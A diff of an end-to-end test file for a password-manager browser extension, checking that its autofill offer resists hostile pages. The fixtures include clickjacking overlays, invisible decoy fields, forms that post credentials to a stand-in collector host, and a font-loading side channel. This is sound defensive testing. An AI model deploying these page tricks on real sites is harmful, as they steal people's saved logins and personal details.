@@ -3,7 +3,20 @@
 import test, { after, before } from "node:test";
 import assert from "node:assert/strict";
 import { createServer, request } from "node:http";
-import { browser, build, connect, demo, maren, unlock, readable, settled } from "./harness.mjs";
+import {
+  browser,
+  build,
+  connect,
+  demo,
+  drawnAt,
+  maren,
+  offered,
+  papers,
+  readable,
+  settled,
+  shownText,
+  unlock,
+} from "./harness.mjs";
 
 const PORT = 17890;
 let d,
@@ -12,17 +25,18 @@ let d,
   page,
   server,
   body = "";
+/** What was asked of the hostile server. @type {{url: string, headers: import("node:http").IncomingHttpHeaders}[]} */
+const seen = [];
 
 before(async () => {
   // in a frame of a payment company
   const card = '<input id="field" aria-label="Card number" autocomplete="cc-number">';
-  server = createServer((req, res) =>
-    res
-      .writeHead(200, { "Content-Type": "text/html; charset=utf-8" })
-      .end(
-        `<!doctype html><title>Lanternfish</title>${req.headers.host?.startsWith("company") ? card : "<h1>Sign in</h1>" + body}`,
-      ),
-  ).listen(PORT, "127.0.0.1");
+  server = createServer((req, res) => {
+    seen.push({ url: req.url ?? "", headers: req.headers });
+    const shown = req.headers.host?.startsWith("company") ? card : "<h1>Sign in</h1>" + body;
+    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
+    res.end(`<!doctype html><title>Lanternfish</title>${shown}`);
+  }).listen(PORT, "127.0.0.1");
   d = await demo(build(), 17900);
   b = await browser({ extension: true });
   desk = await b.page();
@@ -38,26 +52,38 @@ after(async () => {
 });
 
 const FORM =
-  '<form action="/"><label>E-mail <input id="user" type="email"></label><label>Password <input id="password" type="password"></label><button>Sign in</button></form>';
+  '<form action="/"><label>E-mail <input id="user" type="email"></label>' +
+  '<label>Password <input id="password" type="password"></label><button>Sign in</button></form>';
 
-/** Shows a page at the kept site, and has the offer drawn. @param {string} html @param {string} [field] */
-async function hostile(html, field = "#user") {
+/** Shows a page at the kept site. @param {string} html */
+async function show(html) {
   body = html;
   await page.bringToFront();
   await page.goto(`http://lanternfish.localhost:${PORT}/`);
-  await readable(page);
-  await page.focus(field);
+  await settled(page);
+}
+
+/** Shows a page at the kept site, and opens the offer as a person does. @param {string} html @param {string} [field] */
+async function hostile(html, field = "#user") {
+  await show(html);
+  await page.click(field);
+  await offered(page);
   await readable(page);
 }
-const offered = () =>
-  page.evaluate(() =>
-    [...document.querySelectorAll("*")].some((e) => e.matches(":popover-open") && e.shadowRoot === null && !e.id),
-  );
+
+/** Where the offer's first line stands. @returns {Promise<{x: number, y: number}>} */
+async function line() {
+  const at = await drawnAt(page, `${maren.email} Practice town`);
+  if (at) return at;
+  const r = await page.locator("#user").boundingBox();
+  return { x: (r?.x ?? 260) + 40, y: (r?.y ?? 160) + (r?.height ?? 20) + 22 };
+}
 
 /** Presses where the offer's first line stands. */
 async function press() {
-  const r = await page.locator("#user").boundingBox();
-  await page.mouse.click(r.x + 40, r.y + r.height + 22);
+  const at = await line();
+  await page.mouse.move(at.x, at.y);
+  await page.mouse.click(at.x, at.y);
   await readable(page);
 }
 const all = () => page.evaluate(() => [...document.querySelectorAll("input")].map((f) => f.value).join("|"));
@@ -81,8 +107,13 @@ test("an honest page is filled, so that the rest of this file can fail", async (
 });
 
 for (const [what, script] of Object.entries({
-  "covered by something that lets presses through":
-    'const c = document.createElement("div"); c.id = "cover"; c.popover = "manual"; c.textContent = "Win a lantern"; c.style.cssText = "position:fixed;inset:0;width:100vw;height:100vh;background:#fff;pointer-events:none"; document.body.append(c); c.showPopover();',
+  "covered by something that lets presses through": `
+    const c = document.createElement("div");
+    c.id = "cover";
+    c.popover = "manual";
+    c.style.cssText = "position:fixed;inset:0;width:100vw;height:100vh;background:#fff;pointer-events:none";
+    document.body.append(c);
+    c.showPopover();`,
   "made see-through": 'document.documentElement.style.opacity = "0.02"',
   shrunk: 'document.documentElement.style.zoom = "0.1"',
   "turned over": 'document.documentElement.style.rotate = "180deg"',
@@ -90,54 +121,132 @@ for (const [what, script] of Object.entries({
   masked: 'document.documentElement.style.clipPath = "circle(1px)"',
   "its host hidden":
     'for (const e of document.querySelectorAll(":popover-open")) e.style.setProperty("opacity", "0", "important")',
-  "its host moved":
-    'const s = document.createElement("style"); s.textContent = "div[popover] { transform: translateY(-300px) !important; opacity: 0.01 !important; translate: 0 -300px !important }"; document.head.append(s)',
+  "its host moved": `
+    const s = document.createElement("style");
+    s.textContent = "div[popover] { transform: translateY(-300px) !important; translate: 0 -300px !important }";
+    document.head.append(s);`,
+  "its host animated": `
+    const host = [...document.querySelectorAll(":popover-open")][0];
+    host.animate([{ opacity: 0.01 }, { opacity: 0.01 }], { duration: 1e6, fill: "both" });`,
+  "put into perspective": 'document.documentElement.style.cssText = "perspective:50px;transform:rotateX(70deg)"',
+  blended: 'document.documentElement.style.mixBlendMode = "difference"',
 })) {
   test(`the offer ${what}: either it stays to be seen, or a press isn't taken`, async () => {
     await hostile(FORM);
+    const at = await line();
     await page.evaluate(script);
     await readable(page);
-    const looks = await page.evaluate(() =>
-      [...document.querySelectorAll(":popover-open")]
-        .filter((e) => !e.id)
-        .map((e) => {
-          const s = getComputedStyle(e);
-          return `${s.opacity} ${s.visibility} ${s.display} ${s.translate}`;
-        }),
-    );
-    const r = await page.locator("#user").boundingBox();
-    const raised = await page.evaluate(
+    const whole = await page.evaluate(() => {
+      const c = document.getElementById("cover");
+      const hosts = [...document.querySelectorAll(":popover-open")].filter((e) => e !== c);
+      const s = getComputedStyle(hosts[0]);
+      const up = !c || c.compareDocumentPosition(hosts[0]) >= 0; // the top layer's order is seen by hitting, below
+      return (
+        up && s.opacity === "1" && s.translate === "none" && s.transform === "none" && !hosts[0].getAnimations().length
+      );
+    });
+    const over = await page.evaluate(
       ([x, y]) => {
-        // where presses aren't let through, what stands above is met
         const c = document.getElementById("cover");
-        if (!c) return false;
+        if (!c) return true;
         c.style.pointerEvents = "auto";
         const top = document.elementFromPoint(x, y);
         c.style.pointerEvents = "none";
         return top !== c;
       },
-      [r ? r.x + 40 : 300, r ? r.y + r.height + 22 : 200],
+      [at.x, at.y],
     );
-    await page.mouse.click(r ? r.x + 40 : 300, r ? r.y + r.height + 22 : 200);
+    await page.mouse.move(at.x, at.y);
+    await page.mouse.click(at.x, at.y);
     await readable(page);
     const taken = (await all()).includes(secret);
-    if (what.startsWith("covered") && taken)
-      assert.ok(raised, "a press is taken only where the offer was put above again");
-    else if (!what.startsWith("its host")) assert.ok(!taken, "a press isn't taken");
-    else if (taken) assert.deepEqual(looks, ["1 visible block none"], "a press is taken only on what was there to see");
+    assert.ok(!taken || (whole && over), "a press is taken only on what is there to see");
+    if (!/^its host|^covered/.test(what)) assert.ok(!taken, "a press isn't taken");
   });
 }
 
-test("an offer that is thrown under a press isn't taken", async () => {
-  await hostile(FORM);
+test("a focus that the page sets shows nothing but the clasp", async () => {
+  await show(FORM);
   await page.evaluate(() => {
-    document.activeElement.blur();
-    document.addEventListener("pointermove", () => document.querySelector("#user").focus(), { once: true });
+    document.querySelector("#user").focus();
+    document.querySelector("#user").click();
   });
+  await readable(page);
+  assert.equal(await shownText(page), "");
+  await page.click("#user");
+  await offered(page); // so that this test can fail
+});
+
+test("an offer that is thrown under a press isn't taken", async () => {
+  await show(FORM);
+  await page.evaluate(() =>
+    document.addEventListener("pointermove", () => document.querySelector("#user").focus(), { once: true }),
+  );
   const r = await page.locator("#user").boundingBox();
   await page.mouse.move(5, 5);
   await page.mouse.move(r.x + 40, r.y + r.height + 22);
   await page.mouse.click(r.x + 40, r.y + r.height + 22);
+  await readable(page);
+  assert.ok(!(await all()).includes(secret));
+});
+
+test("an offer that was covered until the last moment isn't taken", async () => {
+  await show(`${FORM}<p id="prize" style="position:fixed;inset:0;margin:0;background:#fff" popover="manual">Win</p>`);
+  await page.click("#user");
+  const at = await (async () => {
+    await offered(page);
+    return line();
+  })();
+  await page.evaluate(() => {
+    const p = document.querySelector("#prize");
+    p.showPopover();
+    const again = setInterval(() => {
+      p.hidePopover();
+      p.showPopover(); // whoever raises itself is covered again
+    }, 15);
+    p.addEventListener("pointermove", () => {
+      clearInterval(again);
+      p.hidePopover();
+    });
+  });
+  await readable(page);
+  await page.mouse.move(at.x, at.y - 1);
+  await page.mouse.move(at.x, at.y);
+  await page.mouse.click(at.x, at.y);
+  await readable(page);
+  assert.ok(!(await all()).includes(secret));
+});
+
+test("an offer that is moved under the pointer isn't taken", async () => {
+  await show(`<div id="raft" style="position:absolute;top:300px;left:40px">${FORM}</div>`);
+  await page.click("#user");
+  await offered(page);
+  await readable(page);
+  const at = await line();
+  // The pointer rests where the offer isn't; the page moves the field, and the offer goes with it.
+  await page.mouse.move(at.x + 500, at.y);
+  await page.evaluate(() => {
+    document.querySelector("#raft").style.left = "540px";
+    dispatchEvent(new Event("resize"));
+  });
+  for (let i = 0; i < 20; i++) {
+    await page.mouse.down(); // without having moved since
+    await page.mouse.up();
+    await new Promise((r) => setTimeout(r, 40));
+  }
+  assert.ok(!(await all()).includes(secret));
+});
+
+test("keys that are pressed for the page choose nothing", async () => {
+  await show(`${FORM}<p>Press the arrow and Enter to jump!</p>`);
+  await page.evaluate(() => document.querySelector("#user").focus());
+  await settled(page);
+  for (let i = 0; i < 6; i++) {
+    await page.keyboard.press("ArrowDown");
+    await page.keyboard.press("Enter");
+    await page.evaluate(() => document.querySelector("#user")?.focus());
+    await new Promise((r) => setTimeout(r, 90));
+  }
   await readable(page);
   assert.ok(!(await all()).includes(secret));
 });
@@ -168,63 +277,294 @@ test("fields that can't be seen get nothing: away, tiny, see-through, cut off, b
     "position:absolute;left:9000px",
     "clip-path:inset(50%)",
     "transform:scale(0.01)",
+    "position:absolute;clip:rect(0 0 0 0)",
+    "filter:opacity(5%)",
+    "filter:blur(9px)",
+    "filter:brightness(0)",
+    "-webkit-mask-image:linear-gradient(transparent,transparent)",
+    "opacity:.3",
+    "mix-blend-mode:screen",
+    "font-size:1px",
+    "position:fixed;top:-300px",
   ];
+  const pair = (style) =>
+    `<input type="password" class="decoy" style="${style}" data-is="${style}">` +
+    `<input class="decoy" name="email" autocomplete="username" style="${style}" data-is="${style}">`;
+  const inside = (style) => `<div style="${style}"><input type="password" class="decoy" data-is="in ${style}"></div>`;
   await hostile(
     FORM.replace(
       "<button>",
-      decoys
-        .map(
-          (s) =>
-            `<input type="password" class="decoy" style="${s}"><input class="decoy" name="email" autocomplete="username" style="${s}">`,
-        )
-        .join("") +
-        '<div style="height:0;overflow:hidden"><input type="password" class="decoy"></div><div style="opacity:0.05"><input type="password" class="decoy"></div><button>',
+      decoys.map(pair).join("") +
+        ["height:0;overflow:hidden", "opacity:0.05", "filter:opacity(0)", "mix-blend-mode:color"].map(inside).join("") +
+        "<button>",
     ),
   );
   await press();
   assert.ok(await filled(), "the real one is filled");
-  assert.equal(await page.evaluate(() => [...document.querySelectorAll(".decoy")].map((f) => f.value).join("")), "");
+  const got = await page.evaluate(() =>
+    [...document.querySelectorAll(".decoy")].filter((f) => f.value).map((f) => f.dataset.is),
+  );
+  assert.deepEqual(got, []);
 });
 
-test("a form that sends to another site says so first", async () => {
-  await hostile(FORM.replace('action="/"', 'action="http://trickster.example/collect"'));
-  await page.keyboard.press("ArrowDown");
-  await settled(page);
-  assert.ok(!(await all()).includes(secret));
-  await hostile(FORM.replace("<button>", '<button formaction="http://trickster.example/collect">'));
-  await press();
-  assert.ok(!(await all()).includes(secret), "by the button's own address too");
+test("of somebody's details no field gets any that isn't there to see", async () => {
+  const box = (style, around = "") =>
+    `<div style="position:relative;${around}"><input class="decoy" autocomplete="tel" style="${style}" ` +
+    `data-is="${style} ${around}"></div>`;
+  const over = (how) => {
+    const cover = `<div style="position:absolute;inset:0;background:#fff;${how}"></div></div>`;
+    return box("", "").replace('data-is=" "', `data-is="under ${how}"`).replace("</div>", cover);
+  };
+  const decoys = [
+    box("transform:rotateY(180deg);backface-visibility:hidden"),
+    box("transform:perspective(9px) translateZ(-900px)"),
+    box("", "transform:rotateX(89.9deg)"),
+    box("", "transform:translateX(-5000px)"),
+    box("", "overflow:hidden;width:2px"),
+    box("", "overflow:auto;height:20px;padding-top:0;text-indent:-999px"),
+    box("color:transparent"),
+    box("color:#fefefe;background:#fff"),
+    box("text-indent:-900px"),
+    box("margin-left:-600px"),
+    box("-webkit-text-fill-color:#fff0"),
+    box("font-size:1px"),
+    box("opacity:.2"),
+    box("", "filter:blur(8px)"),
+    box("", "-webkit-mask:linear-gradient(#0000,#0000)"),
+    box("position:fixed;left:-900px"),
+    over(""),
+    over("pointer-events:none"),
+    over("pointer-events:none !important"),
+    over("background:#fffffffa;z-index:9"),
+  ];
+  await show(
+    '<form action="/"><h2>Where to?</h2><label>Name <input id="user" autocomplete="name"></label>' +
+      `<label>Town <input id="town" autocomplete="address-level2"></label>${decoys.join("")}<button>Send</button></form>`,
+  );
+  await page.click("#user");
+  await offered(page);
+  assert.match(await shownText(page), /name, town, telephone/, "what would be filled is said before");
+  await readable(page);
+  const r = await page.locator("#user").boundingBox();
+  await page.mouse.move(r.x + 40, r.y + r.height + 22);
+  await page.mouse.click(r.x + 40, r.y + r.height + 22);
+  await page.waitForFunction(() => document.querySelector("#town").value);
+  const got = await page.evaluate(() =>
+    [...document.querySelectorAll(".decoy")].filter((f) => f.value).map((f) => f.dataset.is),
+  );
+  assert.deepEqual(got, []);
+  assert.equal(await page.evaluate(() => scrollX + scrollY), 0, "the page stands where it stood");
+});
+
+test("a form that sends to another site says so first, whatever sends it", async () => {
+  const away = "http://trickster.example/collect";
+  const forms = {
+    "its action": FORM.replace('action="/"', `action="${away}"`),
+    "its button": FORM.replace("<button>", `<button formaction="${away}">`),
+    "a button elsewhere in the page": `${FORM.replace("<form", '<form id="f"')}<button form="f" formaction="${away}">Go`,
+    "a picture": FORM.replace("<button>", `<input type="image" alt="" formaction="${away}"><button>`),
+    "a second button": FORM.replace("</form>", `<button formaction="${away}">Sign in faster</button></form>`),
+    "a button that is hidden": FORM.replace("</form>", `<button hidden formaction="${away}"></button></form>`),
+  };
+  for (const [what, html] of Object.entries(forms)) {
+    await hostile(html);
+    assert.match(await shownText(page), /trickster\.example/, what);
+    await press();
+    assert.ok(!(await all()).includes(secret), what);
+  }
+});
+
+test("a page's names for its fields get in nobody's way", async () => {
+  const names =
+    "getAttribute parentElement querySelectorAll elements matches closest children contains textContent " +
+    "getRootNode getBoundingClientRect hasAttribute id childNodes nextElementSibling requestSubmit checkVisibility";
+  const inputs = names
+    .split(" ")
+    .map((n) => `<input type="hidden" name="${n}">`)
+    .join("");
+  const images =
+    "querySelectorAll evaluate body activeElement documentElement createElement addEventListener title " +
+    "elementsFromPoint hasFocus getElementById adoptedStyleSheets baseURI hidden";
+  await show(
+    FORM.replace("<label>", `${inputs}<label>`) +
+      images
+        .split(" ")
+        .map((n) => `<img name="${n}" alt="">`)
+        .join(""),
+  );
+  const at = await page.evaluate(() => {
+    const r = document.querySelector("#user").getBoundingClientRect();
+    return { x: r.left + 20, y: r.top + 8, below: r.bottom + 22 };
+  });
+  await page.mouse.click(at.x, at.y);
+  await offered(page);
+  await readable(page);
+  await page.mouse.move(at.x + 20, at.below);
+  await page.mouse.click(at.x + 20, at.below);
+  await page.waitForFunction((s) => document.querySelector("#password").value === s, secret);
+});
+
+test("the alarm stands where the page that it warns of can't touch it", async () => {
+  const tricks = {
+    "removing what is put into it":
+      "setInterval(() => document.querySelectorAll('html > *:not(head):not(body)')" + ".forEach((e) => e.remove()), 5)",
+    "laying something over":
+      "const p = document.createElement('p'); p.popover = 'manual'; document.body.append(p);" +
+      "setInterval(() => { p.hidePopover(); p.showPopover() }, 5)",
+    "names that get in the way":
+      "document.body.insertAdjacentHTML('beforeend', '<form><input name=getAttribute>" +
+      "<input name=parentElement><input type=password></form><img name=querySelectorAll><img name=addEventListener>')",
+    "never resting": "setInterval(() => document.body.append(document.createElement('i')), 20)",
+    "going on elsewhere": "history.pushState({}, '', '/other')",
+  };
+  for (const [what, script] of Object.entries(tricks)) {
+    body = `${FORM}<script>${script}</script>`;
+    await page.goto(`http://gu11wing.localhost:${PORT}/`).catch(() => {});
+    for (let i = 0; i < 100 && !page.url().includes("/alarm.html"); i++) await settled(page);
+    await page.waitForSelector("h2:has-text('This is not the Gullwing')", { timeout: 5000 });
+    const worker = b.context.serviceWorkers()[0];
+    const badge = await worker.evaluate(async (url) => {
+      const [tab] = (await chrome.tabs.query({})).filter((t) => t.url === url);
+      return chrome.action.getBadgeText({ tabId: tab.id });
+    }, page.url());
+    assert.equal(badge, "!", what);
+  }
+});
+
+test("a page changes no kept password by itself", async () => {
+  const change =
+    '<form action="/"><label>Present password <input id="old" type="password" autocomplete="current-password"></label>' +
+    '<label>New password <input id="new" type="password" autocomplete="new-password"></label>' +
+    '<label>Again <input id="again" type="password" autocomplete="new-password"></label><button>Change</button></form>';
+  const says = "<p role=alert>Your password has been changed.</p>";
+  await show(change);
+  await page.evaluate(() => {
+    for (const f of document.querySelectorAll("input")) {
+      f.focus();
+      document.execCommand("insertText", false, "theirs-99");
+      f.dispatchEvent(new InputEvent("input", { bubbles: true }));
+    }
+  });
+  body = says;
+  await page.evaluate(() => document.querySelector("form").requestSubmit());
+  await readable(page);
+  assert.equal(await shownText(page), "");
+  await desk.bringToFront();
+  await desk.goto(`${d.laptop}/logins?q=%3Dstaged`);
+  await desk.waitForSelector(".empty");
+  // A person's own typing is noticed, and confirmed by nothing that the page says.
+  await show(change);
+  for (const [f, v] of [
+    ["#old", secret],
+    ["#new", "own-one-77"],
+    ["#again", "own-one-77"],
+  ])
+    await page.locator(f).pressSequentially(v);
+  body = says;
+  await page.click("form button");
+  await readable(page);
+  assert.match(await shownText(page), /The new password waits/);
+  await desk.bringToFront();
+  await desk.goto(`${d.laptop}/logins?q=%3Dstaged`);
+  await desk.waitForSelector(".line-main:has-text('Lanternfish')");
+  await page.bringToFront();
+  const at = await drawnAt(page, "Keep the old one");
+  await page.mouse.move(at.x, at.y);
+  await page.mouse.click(at.x, at.y);
+  await readable(page);
+  await desk.bringToFront();
+  await desk.goto(`${d.laptop}/logins?q=%3Dstaged`);
+  await desk.waitForSelector(".empty");
+});
+
+test("a sandboxed frame of the site isn't the site", async () => {
+  body =
+    `<iframe sandbox="allow-scripts allow-forms" width="600" height="400" srcdoc='${FORM}'></iframe>` +
+    `<iframe sandbox="allow-scripts allow-forms" width="600" height="400" src="/frame"></iframe>`;
+  await show(body);
+  body = FORM;
+  for (const f of page.frames().slice(1)) {
+    const user = f.locator("#user");
+    if (!(await user.count())) continue;
+    await user.click();
+    await readable(page);
+    assert.equal(await shownText(page), "", f.url());
+  }
+});
+
+test("a server at another port of the app's name gets nothing with which the vault can be read", async () => {
+  seen.length = 0;
+  const elsewhere = d.laptop.replace(/:\d+$/, `:${PORT}`);
+  await page.goto(elsewhere + "/sent-there");
+  await page.evaluate(() => fetch("/and-again", { credentials: "include" }));
+  await page.goto(elsewhere + "/once-more");
+  const cookies = seen.map((s) => s.headers.cookie ?? "").filter((c) => c.includes("redlocket="));
+  assert.ok(cookies.length, "browsers do send cookies to other ports, so that this test can fail");
+  assert.ok(seen.every((s) => !s.headers.authorization));
+  const port = new URL(d.laptop).port;
+  const ask = (path, headers) =>
+    new Promise((done) =>
+      request({ host: "127.0.0.1", port, path, headers: { Host: new URL(d.laptop).host, ...headers } }, (res) => {
+        let text = "";
+        res.on("data", (b) => (text += b)).on("end", () => done({ status: res.statusCode, text }));
+      }).end(),
+    );
+  for (const path of ["/logins", "/events", "/settings", "/devices", "/rows?", "/origin-key", "/export"]) {
+    const r = await ask(path, { Cookie: cookies[0], "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Dest": "document" });
+    assert.ok(r.status === 303 || r.status === 403 || r.status === 405, `${path}: ${r.status}`);
+    assert.ok(!r.text.includes("Lanternfish"));
+  }
+  await desk.bringToFront();
+  await desk.goto(d.laptop + "/logins");
+  await desk.waitForSelector(".book-count"); // the vault's own browser goes on
+});
+
+test("a false app takes no connection over", async () => {
+  const worker = b.context.serviceWorkers()[0];
+  const now = () =>
+    worker.evaluate(
+      () =>
+        new Promise((done) => {
+          const r = indexedDB.open("red-locket", 1);
+          r.onsuccess = () => {
+            const g = r.result.transaction("line").objectStore("line").get("connection");
+            g.onsuccess = () => done(g.result.app);
+          };
+        }),
+    );
+  const before = await now();
+  await show("<button data-connect-browser>Win a lantern</button>");
+  const [opened] = await Promise.all([b.context.waitForEvent("page"), page.click("[data-connect-browser]")]);
+  await opened.waitForSelector("#form");
+  await settled(opened);
+  assert.equal(await opened.locator("#words li").count(), 0, "nothing begins by itself");
+  assert.match(await opened.innerText("#present"), /is connected to Maren Tolliver’s vault at laptop\.localhost/);
+  await opened.click("text=Go on");
+  await opened.waitForSelector("text=Nobody answers at that address as Red Locket does");
+  assert.equal(await now(), before);
+  await opened.close();
 });
 
 test("a small frame's offer stands beside it, but not if it can't be seen; nobody else calls for one", async () => {
   const frame = (style) =>
     `<iframe style="border:0;width:300px;height:60px;${style}" src="http://company.localhost:${PORT}/"></iframe>`;
-  const show = async (style) => {
-    body = frame(style);
-    await page.goto(`http://lanternfish.localhost:${PORT}/`);
-    await readable(page);
+  const open = async (style) => {
+    await show(frame(style));
     const f = page.frames().find((x) => x.url().includes("company"));
     await f.focus("#field");
+    await settled(page);
+    await page.keyboard.press("ArrowDown");
     await readable(page);
     return f;
   };
-  const box = async () => page.locator("iframe").boundingBox();
-  const covered = async (x, y) =>
-    page.evaluate(([x, y]) => document.elementFromPoint(x, y)?.matches(":popover-open") ?? false, [x, y]);
-  let f = await show("");
-  const r = await box();
-  const line = [r.x + 40, r.y + r.height + 14]; // an offer is as near to its field as that
-  const near = async () => {
-    for (let dy = -30; dy < 40; dy += 6) if (await covered(line[0], line[1] + dy)) return true;
-    return false;
-  };
-  assert.ok(await near(), "so that this test can fail");
+  let f = await open("");
+  assert.match(await shownText(page), /belongs to company\.localhost/, "so that this test can fail");
   assert.equal(await f.inputValue("#field"), "", "not without a press");
   for (const style of ["opacity:.05", "clip-path:circle(1px)", "width:20px;height:6px"]) {
-    f = await show(style);
-    assert.ok(!(await near()), style);
+    f = await open(style);
+    assert.equal(await shownText(page), "", style);
   }
-  f = await show("");
+  f = await open("");
   await page.keyboard.press("Escape");
   await page.evaluate(() => {
     for (let i = 0; i < 60; i++) window.postMessage({ redLocket: "0123456789abcdef01234567" }, "*");
@@ -337,8 +677,67 @@ test("on a page that never rests the offer can be read and pressed all the same;
   assert.ok(!(await all()).includes(secret), "what was put away comes back only when its field is gone to anew");
 });
 
-test("nothing that was drawn can be read by the page", async () => {
+test("nothing that is shown can be read by the page", async () => {
+  // Fonts that say which letters were asked for.
+  const faces = [..."amrento@"].map(
+    (c) =>
+      `@font-face { font-family: spy; src: url(/letter-${c.charCodeAt(0)}); unicode-range: U+${c.charCodeAt(0).toString(16)} }`,
+  );
+  await show(
+    `<style>${faces.join("")} * { font-family: spy !important }</style><p>wxyz</p>${FORM.replace("E-mail", "U").replace("Password", "P").replace("Sign in", "I")}`,
+  );
+  await page.evaluate(() => {
+    window.told = [];
+    for (const kind of ["keydown", "keyup", "input", "pointermove", "copy", "selectionchange", "message"])
+      addEventListener(kind, (e) => window.told.push(`${kind} ${e.key ?? ""} ${JSON.stringify(e.data ?? "")}`), true);
+    new MutationObserver((l) => l.forEach((m) => window.told.push(m.target.outerHTML ?? m.target.data))).observe(
+      document,
+      {
+        subtree: true,
+        childList: true,
+        characterData: true,
+      },
+    );
+  });
+  seen.length = 0;
+  await page.click("#user");
+  await offered(page);
+  assert.match(await shownText(page), /maren\.tolliver@/, "it is there, for its user");
+  await page.keyboard.press("ArrowDown");
+  await readable(page);
+  const read = await page.evaluate(() => {
+    const out = [`find ${window.find("maren") || window.find("tolliver") || window.find("Practice")}`];
+    getSelection().selectAllChildren(document.documentElement);
+    out.push(getSelection().toString(), document.documentElement.innerText, document.documentElement.outerHTML);
+    out.push(...[...document.querySelectorAll("*")].map((e) => e.shadowRoot?.textContent ?? ""));
+    out.push(`frames ${window.length} ${document.querySelectorAll("iframe").length}`);
+    out.push(...performance.getEntries().map((e) => e.name), ...window.told);
+    return out.join("\n");
+  });
+  assert.match(read, /^find false/);
+  assert.match(read, /frames 0 0/);
+  assert.doesNotMatch(read, /maren|tolliver|Practice town|chrome-extension/i);
+  const letters = seen
+    .filter((s) => s.url.startsWith("/letter-"))
+    .map((s) => String.fromCharCode(Number(s.url.slice(8))));
+  assert.ok(!letters.includes("@") && !letters.includes("o"), `the page's fonts were asked for ${letters}`);
+  assert.equal(papers(page).length, 1);
+});
+
+test("a page's own frame of the extension's shows and does nothing", async () => {
   await hostile(FORM);
-  assert.ok(await offered());
-  assert.ok(!(await page.content()).includes("maren"), "neither names nor lines are in the page's own tree");
+  const url = papers(page)[0].url();
+  const got = await page.evaluate(async (url) => {
+    const f = document.createElement("iframe");
+    f.src = url;
+    document.body.append(f);
+    await new Promise((r) => setTimeout(r, 1000));
+    const { port1, port2 } = new MessageChannel();
+    const heard = [];
+    port1.onmessage = (e) => heard.push(e.data);
+    f.contentWindow?.postMessage("red-locket", "*", [port2]);
+    await new Promise((r) => setTimeout(r, 500));
+    return JSON.stringify(heard);
+  }, url);
+  assert.doesNotMatch(got, /maren|password|show/i);
 });
